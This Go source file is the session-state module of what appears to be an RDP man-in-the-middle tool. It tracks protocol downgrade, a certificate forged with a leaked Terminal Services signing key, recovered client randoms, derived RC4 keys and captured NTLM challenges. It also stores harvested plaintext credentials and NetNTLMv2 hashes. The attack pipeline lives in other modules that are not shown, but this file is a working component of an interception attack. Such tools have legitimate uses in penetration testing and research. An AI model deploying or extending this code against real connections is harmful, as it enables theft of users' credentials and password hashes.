// Package session holds per-connection MITM state. The original tool kept
// this as process-wide globals (original_crypto, RC4_CLIENT, RC4_SERVER,
// my_keys, server_challenge), which meant it could only ever intercept one
// connection at a time. Session replaces that with an owned, per-connection
// object so multiple sessions can run concurrently without interference.
package session

import (
	"errors"
	"net"
	"sync"

	"github.com/rcarmo/rdp-mitm/internal/certforge"
	"github.com/rcarmo/rdp-mitm/internal/keys"
	"github.com/rcarmo/rdp-mitm/internal/rc4stream"
)

// Direction identifies which leg of the relay a PDU travelled on.
type Direction int

const (
	ClientToServer Direction = iota
	ServerToClient
)

func (d Direction) String() string {
	if d == ClientToServer {
		return "client->server"
	}
	return "server->client"
}

// NegotiatedProtocol mirrors the four values MS-RDPBCGR's RDP Negotiation
// Request/Response carry in the requested/selected protocol field.
type NegotiatedProtocol int

const (
	ProtocolStandardRDP  NegotiatedProtocol = 0
	ProtocolTLS          NegotiatedProtocol = 1
	ProtocolCredSSP      NegotiatedProtocol = 3
	ProtocolCredSSPEarly NegotiatedProtocol = 11
)

// findingRingCapacity bounds the in-memory findings history each Session
// keeps: enough for tests (and an operator attaching a debugger) to inspect
// recent credential/hash extractions by value, without growing unbounded
// over a long-lived connection.
const findingRingCapacity = 32

// FindingRecord is one entry in a Session's findings ring: a snapshot of
// what Inspect noticed on a given PDU, already formatted the way it's
// printed to stdout, so tests can assert on it without scraping log output.
type FindingRecord struct {
	Direction  Direction
	Credential string // DOMAIN\USER:PASSWORD, empty if this record has none
	NTLMv2     string // netntlmv2 format, empty if this record has none
}

// ErrSessionKeysAlreadyDerived guards against re-deriving session keys,
// which would silently desynchronize the RC4 streams from what the client
// and server have already agreed on.
var ErrSessionKeysAlreadyDerived = errors.New("session: session keys already derived")

// ErrMissingRandoms is returned by DeriveSessionKeys when either random is
// not yet known.
var ErrMissingRandoms = errors.New("session: client_random or server_random not yet captured")

// CertContext holds everything extracted from the Server MCS Connect
// Response's Proprietary Certificate, per spec section 3.
type CertContext struct {
	Modulus            []byte
	PubExponent        uint32
	ServerRandom       [32]byte
	OriginalSignature  []byte
	OriginalPubkeyBlob []byte
	FirstFiveFields    []byte
	DataLen            uint32
}

// Session is the full state of one MITM connection. Every field the spec
// names in its data model lives here; nothing is process-wide except the
// read-only leaked TS signing key in internal/certforge.
type Session struct {
	mu sync.Mutex

	ClientConn net.Conn
	ServerConn net.Conn

	ProtocolNegotiated NegotiatedProtocol
	ProtocolOriginal   NegotiatedProtocol
	protocolCommitted  bool

	CertContext *CertContext
	ForgedKeys  *certforge.ForgedKeys

	ClientRandom                  *[32]byte
	EncryptedClientRandomOriginal []byte

	ServerChallenge *[8]byte

	SessionKeys *keys.SessionKeys
	RC4Client   *rc4stream.Cipher
	RC4Server   *rc4stream.Cipher

	CertForged bool

	negotiationRequestSeen bool

	findings []FindingRecord
}

// New creates a Session for a freshly accepted client connection and its
// forward connection to the real server.
func New(clientConn, serverConn net.Conn) *Session {
	return &Session{
		ClientConn:         clientConn,
		ServerConn:         serverConn,
		ProtocolNegotiated: ProtocolStandardRDP,
		ProtocolOriginal:   ProtocolStandardRDP,
	}
}

// CommitProtocol fixes rdp_protocol_negotiated for the life of the session.
// Calling it twice is a programming error the spec forbids ("once committed
// it never changes"); the second call is a no-op.
func (s *Session) CommitProtocol(original, negotiated NegotiatedProtocol) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.protocolCommitted {
		return
	}
	s.ProtocolOriginal = original
	s.ProtocolNegotiated = negotiated
	s.protocolCommitted = true
}

// SetCertContext records the server's Proprietary Certificate fields the
// first time a Server MCS Connect Response carrying one is seen.
func (s *Session) SetCertContext(ctx *CertContext) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.CertContext == nil {
		s.CertContext = ctx
	}
}

// GetCertContext returns the captured certificate context, or nil if no
// Server MCS Connect Response has been seen yet. The certificate is
// captured on the server->client leg and consumed on the client->server
// leg, so reads must go through the lock.
func (s *Session) GetCertContext() *CertContext {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.CertContext
}

// SetForgedKeys records the keypair generated for this session's forged
// certificate. Per the invariant in section 3, this only makes sense once
// CertContext exists.
func (s *Session) SetForgedKeys(fk *certforge.ForgedKeys) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.ForgedKeys = fk
	s.CertForged = true
}

// GetForgedKeys returns the forged keypair, or nil if the certificate has
// not been replaced yet. Set on the server->client leg, read on the
// client->server leg.
func (s *Session) GetForgedKeys() *certforge.ForgedKeys {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.ForgedKeys
}

// SetClientRandom records the client random recovered from a decrypted
// Client Security Exchange, and the ciphertext it arrived in (needed later
// to locate and replace it on the forward path).
func (s *Session) SetClientRandom(r [32]byte, ciphertext []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.ClientRandom != nil {
		return
	}
	cp := r
	s.ClientRandom = &cp
	s.EncryptedClientRandomOriginal = ciphertext
}

// SetServerChallenge records the NTLMSSP Type-2 challenge the server sent.
func (s *Session) SetServerChallenge(c [8]byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.ServerChallenge != nil {
		return
	}
	cp := c
	s.ServerChallenge = &cp
}

// GetServerChallenge returns the captured NTLMSSP challenge, or nil if no
// Type-2 message has been seen. The challenge arrives on the
// server->client leg and is matched against the Authenticate message on
// the client->server leg.
func (s *Session) GetServerChallenge() *[8]byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.ServerChallenge
}

// DeriveSessionKeys computes the session keys and the two RC4 streams once
// both randoms are known. It is idempotent-safe to call repeatedly; only
// the first call with both randoms present takes effect.
func (s *Session) DeriveSessionKeys() error {
	s.mu.Lock()
	defer s.mu.Unlock()

	if s.SessionKeys != nil {
		return ErrSessionKeysAlreadyDerived
	}
	if s.ClientRandom == nil || s.CertContext == nil {
		return ErrMissingRandoms
	}

	sk := keys.Derive(*s.ClientRandom, s.CertContext.ServerRandom)
	s.SessionKeys = sk
	s.RC4Client, s.RC4Server = keys.NewRC4Pair(sk)
	return nil
}

// HasSessionKeys reports whether session keys (and therefore the RC4
// streams) have been derived yet.
func (s *Session) HasSessionKeys() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.SessionKeys != nil
}

// ConsumeNegotiationRequest reports whether this is the first
// client->server PDU observed on the session — the RDP Negotiation Request
// the Protocol Downgrader rewrites — and marks it consumed so later PDUs on
// the same direction are never mistaken for it.
func (s *Session) ConsumeNegotiationRequest() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.negotiationRequestSeen {
		return false
	}
	s.negotiationRequestSeen = true
	return true
}

// RecordFinding appends a credential/hash extraction to the session's
// findings ring, dropping the oldest entry once findingRingCapacity is
// reached. Callers (internal/relay) still print findings in red per
// spec.md §6; this additionally makes them available as values.
func (s *Session) RecordFinding(dir Direction, credential, ntlmv2 string) {
	s.mu.Lock()
	defer s.mu.Unlock()

	s.findings = append(s.findings, FindingRecord{Direction: dir, Credential: credential, NTLMv2: ntlmv2})
	if len(s.findings) > findingRingCapacity {
		s.findings = s.findings[len(s.findings)-findingRingCapacity:]
	}
}

// Findings returns a copy of the session's recent findings ring, newest
// last.
func (s *Session) Findings() []FindingRecord {
	s.mu.Lock()
	defer s.mu.Unlock()

	out := make([]FindingRecord, len(s.findings))
	copy(out, s.findings)
	return out
}

// Close releases both sockets. It is safe to call multiple times.
func (s *Session) Close() {
	if s.ClientConn != nil {
		s.ClientConn.Close()
	}
	if s.ServerConn != nil {
		s.ServerConn.Close()
	}
}
